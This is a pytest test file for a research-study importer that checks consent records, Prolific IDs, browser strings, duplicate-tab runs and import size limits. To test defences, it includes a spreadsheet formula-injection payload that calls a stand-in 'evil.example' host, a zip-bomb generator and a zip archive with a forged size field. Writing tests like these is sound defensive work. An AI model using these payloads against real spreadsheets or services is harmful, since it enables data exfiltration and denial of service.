"""Issue 45, items 7, 8, 9 and 11 on the importer's side: answers without a recorded
agreement never enter the tables (kept aside, listed and printed), PROLIFIC_PID is the
participant ID, the browser's strings are checked and made safe for spreadsheets, a run
two tabs wrote is quarantined and the rest imported, and one import reads a bounded
total (a zip bomb ends in one line, within 1 GB: ``slow``)."""
import csv
import json
import os
import subprocess
import sys
import textwrap
import zipfile

import pytest

from _prolific import web_records, write_jsonl
from _site_names import nothing_imported

from flipstudy.errors import WebImportError
from flipstudy.study.cli import main as cli
from flipstudy.study.demo import make_demo_study
from flipstudy.study.web import _read
from flipstudy.study.web.importer import import_web
from flipstudy.study.web.sites import remember_site

ONLINE = """
[online]
consent = "consent.md"
"""


@pytest.fixture
def study(tmp_path):
    d = make_demo_study(tmp_path / "study", videos=False, levels=(0, 25), repetitions=1, extra=ONLINE)
    (d / "consent.md").write_text("# Consent\n\nI agree to take part.\n")
    return d


def _table(path):
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def _people(study):
    return {r["participant"] for r in _table(study / "web" / "responses.csv")}


def _everywhere(study) -> str:
    """Every table import-web writes that analysis or a reader of the data set sees."""
    web = study / "web"
    return "".join(p.read_text() for p in [web / "responses.csv", web / "participants.csv",
                                           *sorted((web / "data").glob("*.csv"))])


# --- item 7: consent as data -------------------------------------------------------------------

@pytest.mark.parametrize("spoil, why", [
    (lambda recs: recs.pop(0), "no start record"),
    (lambda recs: recs[0].pop("consent"), "consent None"),
    (lambda recs: recs[0].update(consent=None), "consent None"),
    (lambda recs: recs[0].update(consent=""), "consent ''"),
    (lambda recs: recs[0].update(consent={"agreed": True}), "consent \"{'agreed': True}\""),
    (lambda recs: recs[0].update(consent="yes"), "consent 'yes'"),
])
def test_a_run_without_a_recorded_agreement_is_kept_out_of_every_table(study, tmp_path, capsys, spoil, why):
    bad = web_records(study, "FX2", run="rbad")
    spoil(bad)
    good = web_records(study, "FX1", run="rgood")
    f = write_jsonl(tmp_path / "jatos.txt", good + bad)
    assert cli(["import-web", str(study), str(f)]) == 0
    out = capsys.readouterr().out
    assert "kept out of the tables (1;" in out and "FX2 run rbad: no consent:" in out and why in out
    assert _people(study) == {"FX1"}                             # the rest imported
    assert "FX2" not in _everywhere(study)
    aside = _table(study / "web" / "quarantine.csv")
    assert [(a["participant"], a["run_id"], a["what"], a["reason"]) for a in aside] == \
           [("FX2", "rbad", "run", "no consent")]
    assert len(list((study / "web" / "imports").iterdir())) == 1    # the records themselves are kept


def test_a_pavlovia_csv_with_an_empty_consent_cell_is_kept_out(study, tmp_path):
    recs = web_records(study, "FX2")
    recs[0]["consent"] = ""
    cols = list(dict.fromkeys(k for r in recs for k in r))
    p = tmp_path / "demo_FX2.csv"
    with open(p, "w", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(cols)
        for r in recs:
            w.writerow(["" if r.get(c) is None else json.dumps(r[c]) if isinstance(r[c], bool) else r[c]
                        for c in cols])
    out = import_web(study, [p])
    assert out.answers == 0 and out.quarantined[0].startswith("FX2 run r1: no consent")
    # the start record comes later (the participant's download): then the run is imported
    later = write_jsonl(tmp_path / "download.jsonl", web_records(study, "FX2", run="r2"))
    assert import_web(study, [later]).participants == 1 and _people(study) == {"FX2"}


# --- item 8: the browser's strings -------------------------------------------------------------

def test_prolific_pid_must_be_the_participant_id(study, tmp_path):
    f = write_jsonl(tmp_path / "w.jsonl", web_records(study, "FX1", PROLIFIC_PID="SOMEONEELSE"))
    with pytest.raises(WebImportError, match=r"w.jsonl: line 1: PROLIFIC_PID 'SOMEONEELSE' is not the "
                                             r"participant ID 'FX1'"):
        import_web(study, [f])
    assert nothing_imported(study)
    ok = write_jsonl(tmp_path / "ok.jsonl", web_records(study, "FX1", PROLIFIC_PID="FX1"))
    assert import_web(study, [ok]).participants == 1


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_formula_in_the_user_agent_is_written_as_text(study, tmp_path):
    recs = web_records(study, "FX1")
    recs[0]["user_agent"] = FORMULA
    import_web(study, [write_jsonl(tmp_path / "w.jsonl", recs)])
    (part,) = _table(study / "web" / "participants.csv")
    assert part["user_agent"] == "'" + FORMULA
    for text in [(study / "web" / "participants.csv").read_text(), _everywhere(study)]:
        cells = [c for row in csv.reader(text.splitlines()) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells)


@pytest.mark.parametrize("field, value, message", [
    ("window", FORMULA, "window '=HYPERLINK.*WIDTHxHEIGHT"),
    ("participant_from", FORMULA, "participant_from: must be one of PROLIFIC_PID"),
    ("user_agent", "Mozilla\x00\n", "user_agent: expected up to 1000 printable characters"),
    ("user_agent", {"a": 1}, "user_agent: expected up to 1000 printable characters"),
    ("block_order", FORMULA, "block_order '=HYPERLINK.* no Latin-square"),
    ("run_started", FORMULA, "run_started '=HYPERLINK.* ISO 8601"),
    ("run_id", "-1-1", "run_id '-1-1' is not valid"),
    ("participant", "-1-1", "participant '-1-1' is not a valid participant ID"),
    ("STUDY_ID", "-2-3", "STUDY_ID '-2-3' is not a valid recruiter ID"),
])
def test_a_string_from_the_browser_that_is_not_what_the_site_writes_is_refused(study, tmp_path, field, value,
                                                                               message):
    recs = web_records(study, "FX1")
    recs[0][field] = value
    with pytest.raises(WebImportError, match=r"w.jsonl: line 1: " + message):
        import_web(study, [write_jsonl(tmp_path / "w.jsonl", recs)])
    assert nothing_imported(study)


@pytest.mark.parametrize("site_id", [["s", "t"], {"s": 1}])
def test_a_site_id_that_is_a_list_or_object_is_one_line_from_the_cli(study, tmp_path, capsys, site_id):
    remember_site(study, "s", "jatos", tmp_path / "site")       # as export-web records it
    recs = web_records(study, "FX1", site_id=site_id)
    assert cli(["import-web", str(study), str(write_jsonl(tmp_path / "w.jsonl", recs))]) == 1
    err = capsys.readouterr().err.strip()
    assert "\n" not in err and "w.jsonl: line 1: site_id" in err and "is not valid" in err


# --- item 9: two tabs on one run ---------------------------------------------------------------

def _two_tabs_zip(study, path):
    """A JATOS archive: P6good's run written by two tabs (trial 1 answered differently in
    each), and two other participants."""
    tab1 = web_records(study, "P6good", run="rtabs")
    tab2 = web_records(study, "P6good", run="rtabs",
                       response=lambda t: "incorrect" if t.trial == 1 else "correct")
    with zipfile.ZipFile(path, "w") as z:
        for i, recs in enumerate([web_records(study, "P1", run="r1"), tab1, tab2, web_records(study, "P2", run="r2")], start=1):
            z.writestr(f"study_result_{i}/comp-result_{i}/data.txt", "".join(json.dumps(r) + "\n" for r in recs))
    return path


def test_a_run_two_tabs_wrote_is_quarantined_and_the_rest_imported(study, tmp_path, capsys):
    z = _two_tabs_zip(study, tmp_path / "jatos_results.zip")
    assert cli(["import-web", str(study), str(z)]) == 0
    out = capsys.readouterr().out
    assert "P6good run rtabs: conflict: trial 1 differs between" in out and "whole run is kept out" in out
    assert _people(study) == {"P1", "P2"} and "P6good" not in _everywhere(study)
    aside = _table(study / "web" / "quarantine.csv")
    assert [(a["participant"], a["what"], a["reason"]) for a in aside] == [("P6good", "run", "conflict")]
    ledger = json.loads((study / "web" / "imports.json").read_text())
    assert list(ledger[-1]["quarantined"]) == ["rtabs"]
    first = (study / "web" / "responses.csv").read_bytes()
    # a later import (the same records again, in one tab's download) keeps it out
    tab1 = write_jsonl(tmp_path / "dl.jsonl", web_records(study, "P6good", run="rtabs"))
    res = import_web(study, [tab1])
    assert res.files[0].status == "nothing new" and len(res.quarantined) == 1
    assert (study / "web" / "responses.csv").read_bytes() == first
    # a new participant still comes in
    import_web(study, [write_jsonl(tmp_path / "p3.jsonl", web_records(study, "P3", run="r3"))])
    assert _people(study) == {"P1", "P2", "P3"}


# --- item 11: the total an import reads ---------------------------------------------------------

def test_the_total_of_one_import_is_bounded_across_zip_entries_and_files(study, tmp_path, monkeypatch):
    monkeypatch.setattr(_read, "MAX_IMPORT", 1 << 20)
    def text(pid, run):
        return "".join(json.dumps(r) + "\n" for r in web_records(study, pid, run=run))
    pad = " " * (600 << 10)                       # blank lines are read, then skipped
    z = tmp_path / "two.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a/data.txt", text("P1", "r1") + pad)
        zf.writestr("b/data.txt", text("P2", "r2") + pad)
    with pytest.raises(WebImportError, match=r"two.zip: the files of one import hold more than 1048576 bytes "
                                             r"uncompressed .* import the files in several runs"):
        import_web(study, [z])
    a, b = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    a.write_text(text("P1", "r1") + pad)
    b.write_text(text("P2", "r2") + pad)
    with pytest.raises(WebImportError, match=r"b.jsonl: the files of one import hold more than"):
        import_web(study, [a, b])
    assert nothing_imported(study)
    assert import_web(study, [a]).participants == 1 and import_web(study, [b]).participants == 2


def test_a_zip_entry_holding_more_than_it_states_is_stopped(study, tmp_path):
    z = tmp_path / "lying.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a/data.txt", "\n" * (3 << 20))
    raw = bytearray(z.read_bytes())
    # the central directory's uncompressed size (offset 24 of its entry) says 1 KiB
    cd = raw.rindex(b"PK\x01\x02")
    raw[cd + 24:cd + 28] = (1024).to_bytes(4, "little")
    z.write_bytes(bytes(raw))
    with pytest.raises(WebImportError, match=r"lying.zip(:a/data.txt: holds more than the 1024 bytes|: a broken zip archive \(Bad CRC)"):
        import_web(study, [z])


BOMB = textwrap.dedent("""
    import resource, sys
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
    from flipstudy.study.cli import main
    sys.exit(main(["import-web", sys.argv[1], sys.argv[2]]))
""")


@pytest.mark.slow
def test_a_zip_bomb_ends_in_one_line_within_1_gb(study, tmp_path):
    bomb = tmp_path / "jatos_results.zip"
    zeros = bytes(1 << 20)
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for i in range(10):                          # 10 entries of 120 MB of zeros
            with zf.open(f"study_result_{i}/comp-result_{i}/data.txt", "w", force_zip64=True) as f:
                for _ in range(120):
                    f.write(zeros)
    assert bomb.stat().st_size < 8 << 20
    env = dict(os.environ, OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1", MKL_NUM_THREADS="1")
    p = subprocess.run([sys.executable, "-c", BOMB, str(study), str(bomb)], capture_output=True, text=True,
                       env=env, timeout=120)
    assert p.returncode == 1, p.stderr[-2000:]
    err = p.stderr.strip()
    assert "\n" not in err and "MemoryError" not in err and "Traceback" not in err
    assert "jatos_results.zip: the files of one import hold more than" in err
    assert nothing_imported(study)


def test_runs_kept_out_at_import_are_counted_in_the_participant_flow(tmp_path):
    d = make_demo_study(tmp_path / "study", videos=False, levels=(0, 25), repetitions=1,
                        extra=ONLINE)
    (d / "consent.md").write_text("# Consent\n\nI agree.\n")
    bad = web_records(d, "FX2", run="r2")
    bad[0]["consent"] = None
    tabs = [web_records(d, "FX3", run="r3"), web_records(d, "FX3", run="r3", response=lambda t: "incorrect")]
    import_web(d, [write_jsonl(tmp_path / "w.jsonl", web_records(d, "FX1") + bad + tabs[0] + tabs[1])])
    from flipstudy.analysis.pipeline import analyze
    res = analyze(d / "web", None, psychometric="none", gee=False, n_boot=20, figures=False,
                  exclusions={"require_complete": True})
    flow = res.exclusions.flow
    assert list(zip(flow["stage"], flow["n"]))[:3] == [("kept out at import: conflict", 1),
                                                       ("kept out at import: no consent", 1), ("recruited", 1)]
